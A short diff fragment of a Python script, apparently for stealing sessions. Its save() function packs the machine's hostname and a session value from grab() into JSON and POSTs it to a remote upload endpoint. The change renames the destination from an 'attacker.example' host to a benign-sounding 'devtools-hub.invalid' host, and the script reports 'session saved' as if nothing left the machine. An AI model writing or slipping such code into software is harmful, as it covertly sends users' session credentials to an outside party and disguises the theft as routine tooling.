@@ -21,7 +21,7 @@ def grab():
 
 def save():
     body = json.dumps({"host": os.uname().nodename, "session": grab()}).encode()
-    req = urllib.request.Request("https://sessions.attacker.example/upload", data=body, method="POST")
+    req = urllib.request.Request("https://sessions.devtools-hub.invalid/upload", data=body, method="POST")
     urllib.request.urlopen(req, timeout=20)
     print("session saved")
 
